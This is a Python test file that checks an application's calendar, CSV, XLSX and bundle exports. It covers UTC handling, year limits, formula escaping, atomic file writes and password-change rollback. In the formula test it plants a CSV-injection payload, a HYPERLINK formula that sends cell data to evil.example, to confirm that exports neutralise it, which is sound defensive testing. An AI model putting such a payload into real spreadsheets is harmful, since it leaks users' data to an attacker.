#!/usr/bin/env python3
"""tests/ops/export_test.py PAVILION WORKDIR: what exports write.

- Zones: events in UTC, GMT and Etc/UTC are accepted by the API and the
  mission's calendar (API and CLI) writes them in UTC ("...Z", no
  VTIMEZONE); Python's icalendar reads the instants back.  Years outside
  what bundles and CSV accept are refused at the API (422), the bundle
  reader and CSV import, and nothing is written as 00000000.
- Formulas: CSV exports write cells beginning with = + - @ with a leading
  apostrophe; LibreOffice, converting the export, finds no formula (it
  does in a file written without them); CSV import reads the values back
  unchanged; the workbook (XLSX) holds such text as strings.
- Output files: -o FILE is written whole or not at all; a write that
  fails (a file size limit) leaves the previous FILE as it was and no
  temporary file; the mode of a replaced FILE is kept.
- A password change whose session delete fails changes nothing.
Prints "N passed, N failed".
"""
import csv
import http.client
import io
import json
import os
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import zipfile

from ops import Server, check, finish, fresh_db

PAVILION, WORK = sys.argv[1], sys.argv[2]
DB = os.path.join(WORK, "export.db")
OUT = os.path.join(WORK, "out")
M = "jeonbuk-us-2024"


def run(*args, stdin=None, preexec=None, db=DB):
    return subprocess.run([PAVILION, *args, "--db", db], input=stdin, capture_output=True,
                          text=True, preexec_fn=preexec)


shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
fresh_db(PAVILION, DB)
run("user", "add", "officer", "--role", "officer", "--password-stdin", stdin="export test password 1\n")
TOKEN = run("token", "create", "officer").stdout.strip().splitlines()[-1]
server = Server(PAVILION, DB, os.path.join(WORK, "export-serve.err"))
PORT = server.port


def api(method, path, body=None, headers=None):
    c = http.client.HTTPConnection("127.0.0.1", PORT, timeout=60)
    h = {"Authorization": "Bearer " + TOKEN}
    h.update(headers or {})
    data = None
    if body is not None:
        data = json.dumps(body).encode()
        h["Content-Type"] = "application/json"
    c.request(method, path, body=data, headers=h)
    r = c.getresponse()
    text = r.read().decode("utf-8", "replace")
    c.close()
    return r.status, text, r


# ---- item: zones UTC/GMT and years --------------------------------------
START = 1704877200     # 2024-01-10T09:00:00Z
for i, zone in enumerate(("UTC", "GMT", "Etc/UTC")):
    status, text, _ = api("POST", "/api/events", {
        "mission_id": 1, "key": f"utc-event-{i}", "kind": "signing", "title": {"en": f"In {zone}"},
        "zone": zone, "start_utc": START + 3600 * i, "start_precision": 2,
        "end_utc": START + 3600 * i + 1800, "end_precision": 2})
    check(status == 201, f"an event in {zone} is accepted: {status} {text[:200]}")
status, ics, resp = api("GET", "/api/missions/1/calendar.ics?lang=en")
check(status == 200, f"the mission's calendar with UTC events: {status} {ics[:300]}")
for i in range(3):
    check(f"DTSTART:20240110T{9 + i:02d}0000Z" in ics, f"utc-event-{i} is written in UTC")
check("TZID=UTC" not in ics and "TZID=GMT" not in ics and "TZID=Etc/UTC" not in ics,
      "no TZID for UTC under any name")
check("00000000" not in ics, "no 00000000 in the calendar")
r = run("export", "--ics", M, "-o", os.path.join(OUT, "m.ics"))
check(r.returncode == 0, f"pavilion export --ics with UTC events: {r.stderr.strip()}")
try:
    import icalendar  # Debian's python3-icalendar
    cal = icalendar.Calendar.from_ical(open(os.path.join(OUT, "m.ics"), "rb").read())
    starts = {str(e.get("UID")).split(".")[0]: e.decoded("DTSTART") for e in cal.walk("VEVENT")}
    for i in range(3):
        got = starts.get(f"utc-event-{i}")
        check(got is not None and int(got.timestamp()) == START + 3600 * i,
              f"icalendar reads utc-event-{i} at the right instant: {got}")
except ImportError:
    check(False, "python3-icalendar is needed (Debian package)")
except OSError as e:
    check(False, f"the calendar file: {e}")

YEAR_10000 = 253402300800
for field in ("start_utc", "end_utc"):
    body = {"mission_id": 1, "key": f"far-{field}", "kind": "signing", "title": {"en": "Far"}, "zone": "Asia/Seoul",
            "start_utc": START, "start_precision": 2}
    body[field] = YEAR_10000
    if field == "end_utc":
        body["end_precision"] = 2
    status, text, _ = api("POST", "/api/events", body)
    check(status == 422 and field in text, f"{field} in the year 10000 is refused: {status} {text[:200]}")
status, text, _ = api("POST", "/api/stops", {"mission_id": 1, "key": "far-stop", "zone": "Asia/Seoul",
                                              "arrive_utc": YEAR_10000, "arrive_precision": 2})
check(status == 422, f"a stop arriving in the year 10000 is refused: {status}")
status, text, _ = api("GET", "/api/missions/1/calendar.ics")
check(status == 200 and "00000000" not in text, "the calendar still renders, with no 00000000")

bundle = json.loads(run("export", M).stdout)
bundle["mission"]["slug"] = "far-future"
bundle["mission"]["events"][0]["start"] = "10000-01-10"
path = os.path.join(OUT, "far.json")
json.dump(bundle, open(path, "w"))
r = run("import", path)
check(r.returncode == 3 and "start" in r.stderr, f"a bundle with the year 10000 is refused: {r.returncode} {r.stderr.strip()}")
csv_path = os.path.join(OUT, "far.csv")
open(csv_path, "w").write("mission,key,kind,zone,start\r\n"
                          f"{M},far-csv,signing,Asia/Seoul,10000-01-10T09:00\r\n")
r = run("import", "--csv", "events", csv_path)
check(r.returncode == 3 and "line 2" in r.stderr, f"a CSV event in the year 10000 is refused: {r.returncode} {r.stderr.strip()}")

# ---- item: formulas in CSV and XLSX ---------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
db = sqlite3.connect(DB)
org_id, org_key = db.execute("SELECT o.id, o.key FROM organisation o JOIN participant p"
                             " ON p.organisation_id = o.id ORDER BY o.id LIMIT 1").fetchone()
db.close()
status, text, resp = api("GET", f"/api/organisations/{org_id}")
etag = resp.getheader("ETag")
status, text, _ = api("PATCH", f"/api/organisations/{org_id}",
                      {"name": {"en": EVIL, "ko": "+82 2 123 4567"}, "website": "@home", "city": {"en": "-Minus"}},
                      {"If-Match": etag})
check(status == 200, f"an organisation renamed to a formula: {status} {text[:200]}")
values = {"name_en": EVIL, "name_ko": "+82 2 123 4567", "website": "@home", "city_en": "-Minus"}
csv_out = os.path.join(OUT, "orgs.csv")
r = run("export", "--csv", "organisations", "-o", csv_out)
check(r.returncode == 0, "CSV export of organisations")
text = open(csv_out, encoding="utf-8-sig", newline="").read()
line = next((l for l in text.split("\r\n") if l.startswith(org_key + ",")), "")
check("'=HYPERLINK" in line and "'+82 2 123 4567" in line and "'@home" in line and "'-Minus" in line,
      f"formula cells get an apostrophe: {line}")
for record in csv.reader(io.StringIO(text)):
    for cell in record:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            check(False, f"a cell begins with a formula character: {cell!r}")
# Round trip: into a fresh database the values come back unchanged.
db2 = os.path.join(WORK, "export2.db")
fresh_db(PAVILION, db2)
r = run("import", "--csv", "organisations", csv_out, db=db2)
check(r.returncode == 0, f"the export imports back: {r.stderr.strip()}")
row = sqlite3.connect(db2).execute("SELECT name_en, name_ko, website, city_en FROM organisation WHERE key = ?",
                                    (org_key,)).fetchone()
check(row == tuple(values.values()), f"values come back unchanged: {row}")
# LibreOffice finds no formula in our export.
lo_profile = "file://" + os.path.join(WORK, "lo-profile")
lo = subprocess.run(["soffice", f"-env:UserInstallation={lo_profile}", "--headless", "--convert-to", "xlsx",
                     "--outdir", os.path.join(OUT, "lo"), csv_out], capture_output=True, text=True, timeout=300)
converted = os.path.join(OUT, "lo", "orgs.xlsx")
if os.path.exists(converted):
    sheet = zipfile.ZipFile(converted).read("xl/worksheets/sheet1.xml").decode()
    check("<f" not in sheet, "LibreOffice reads no formula from the CSV export")
    strings = zipfile.ZipFile(converted).read("xl/sharedStrings.xml").decode()
    check("HYPERLINK" in strings, "LibreOffice shows the name as text")
else:
    check(False, f"LibreOffice converted the CSV: {lo.stderr[-300:]}")
xlsx_out = os.path.join(OUT, "m.xlsx")
r = run("export", "--xlsx", M, "-o", xlsx_out)
check(r.returncode == 0, "XLSX export")
z = zipfile.ZipFile(xlsx_out)
sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
check(sheets and all("<f>" not in z.read(n).decode() and "<f " not in z.read(n).decode() for n in sheets),
      "the workbook has no formula cells")
shared = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
check("=HYPERLINK(" in shared, "the formula-like name is a string of the workbook")

# ---- item: -o FILE whole or not at all ----------------------------------------
DB3 = os.path.join(WORK, "export3.db")
fresh_db(PAVILION, DB3)
big = json.loads(run("export", M, db=DB3).stdout)
big["mission"]["slug"] = "big"
big["mission"]["events"] = [{"key": f"ev-{i}", "kind": "consultation", "zone": "America/Los_Angeles",
                             "title": {"en": f"Consultation {i} with a long enough title", "ko": f"상담 {i}"},
                             "start": f"2024-01-{10 + i % 5:02d}T{9 + i % 8:02d}:00",
                             "notes": {"en": "n" * 100}} for i in range(800)]
big["mission"]["pavilions"] = []
big["agreements"] = []
json.dump(big, open(os.path.join(OUT, "big.json"), "w"))
check(run("import", os.path.join(OUT, "big.json"), db=DB3).returncode == 0, "a mission of 800 events")
LIMIT = 48 * 1024     # above what opening the database writes, below each output


def small_files():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (LIMIT, LIMIT))


for name, args in (("bundle.json", ["export", "big"]), ("cal.ics", ["export", "--ics", "big"]),
                   ("events.csv", ["export", "--csv", "events", "big"])):
    target = os.path.join(OUT, name)
    open(target, "w").write("the previous file\n")
    os.chmod(target, 0o640)
    r = run(*args, "-o", target, preexec=small_files, db=DB3)
    check(r.returncode == 6 and name in r.stderr, f"{name}: a failed write is an error: {r.returncode} {r.stderr.strip()}")
    check(open(target).read() == "the previous file\n", f"{name}: the previous file is left as it was")
    r = run(*args, "-o", target, db=DB3)
    check(r.returncode == 0 and os.path.getsize(target) > LIMIT, f"{name}: written whole")
    check(os.stat(target).st_mode & 0o777 == 0o640, f"{name}: the file keeps its mode")
for name, args in (("r.pdf", ["report", "--format", "pdf", M]), ("w.xlsx", ["export", "--xlsx", M]),
                   ("gen.json", ["schedule", "gen", "--participants", "20", "--seed", "1"])):
    target = os.path.join(OUT, name)
    r = subprocess.run([PAVILION, *args, "-o", target] + (["--db", DB3] if args[0] != "schedule" else []),
                       capture_output=True, text=True)
    check(r.returncode == 0 and os.path.getsize(target) > 0, f"{name} written: {r.stderr.strip()}")
left = [f for f in os.listdir(OUT) if f.startswith(".")]
check(not left, f"no temporary files left: {left}")
r = run("export", M, "-o", os.path.join(OUT, "no-such-dir", "x.json"))
check(r.returncode == 6 and "no-such-dir" in r.stderr, f"a missing directory is named: {r.stderr.strip()}")

# ---- item: a password change whose session delete fails ---------------------
status, _, resp = api("POST", "/api/session", {"username": "officer", "password": "export test password 1"})
check(status in (200, 201), f"a login makes a session: {status}")
db = sqlite3.connect(DB)
db.execute("CREATE TRIGGER keep_sessions BEFORE DELETE ON app_session BEGIN SELECT RAISE(ABORT, 'kept'); END")
db.commit()
hash_before = db.execute("SELECT password_hash FROM app_user WHERE username = 'officer'").fetchone()
db.close()
r = run("user", "passwd", "officer", "--password-stdin", stdin="another password 22\n")
check(r.returncode != 0 and "session" in r.stderr, f"passwd fails when the sessions cannot end: {r.returncode} {r.stderr.strip()}")
db = sqlite3.connect(DB)
check(db.execute("SELECT password_hash FROM app_user WHERE username = 'officer'").fetchone() == hash_before,
      "the password is unchanged")
db.execute("DROP TRIGGER keep_sessions")
db.commit()
db.close()

server.stop()
finish()
